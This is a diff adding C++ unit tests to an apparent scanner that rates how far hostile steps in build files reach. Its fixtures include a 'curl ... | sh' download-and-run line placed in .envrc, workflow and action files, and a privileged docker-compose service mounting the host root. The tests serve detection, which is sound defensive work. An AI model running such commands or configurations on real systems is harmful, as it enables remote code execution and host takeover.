@@ -67,5 +67,28 @@ TEST(BuildFiles, OtherFilesAreNone) {
   EXPECT_TRUE(ActsOf("notes.txt", "\tcurl https://x.kit.example/a | sh\n").empty());
 }
 
+TEST(BuildFiles, WhatRunsOnOpeningIsInstalled) {
+  const auto acts = ActsOf(".envrc", "use flake\ncurl -fsSL https://v.kit.example/v.sh | sh\n");
+  ASSERT_TRUE(acts.contains("SH-001"));
+  EXPECT_EQ(acts.at("SH-001"), core::Reach::kInstall);
+  EXPECT_TRUE(ActsOf(".envrc", "use flake\nlayout python3\n").empty());
+}
+
+TEST(BuildFiles, PipelinesRunOnServersAndPartsOfThemAtOthers) {
+  const std::string step = "    - run: curl -fsSL https://v.kit.example/v.sh | sh\n      shell: bash\n";
+  const auto own = ActsOf(".github/workflows/a.yml", "jobs:\n  a:\n    runs-on: x\n    steps:\n" + step);
+  ASSERT_TRUE(own.contains("SH-001"));
+  EXPECT_EQ(own.at("SH-001"), core::Reach::kBuild);
+  const auto others = ActsOf("action.yml", "runs:\n  using: composite\n  steps:\n" + step);
+  ASSERT_TRUE(others.contains("SH-001"));
+  EXPECT_EQ(others.at("SH-001"), core::Reach::kInstall);
+}
+
+TEST(BuildFiles, TheHostsRootIsTheHost) {
+  const std::string head = "services:\n  a:\n    image: a:1\n    privileged: true\n    volumes:\n";
+  EXPECT_TRUE(ActsOf("docker-compose.yml", head + "      - /:/host\n").contains("ESCAPE-001"));
+  EXPECT_TRUE(ActsOf("docker-compose.yml", head + "      - /:/host:ro\n").empty());
+}
+
 }  // namespace
 }  // namespace interlock::scan
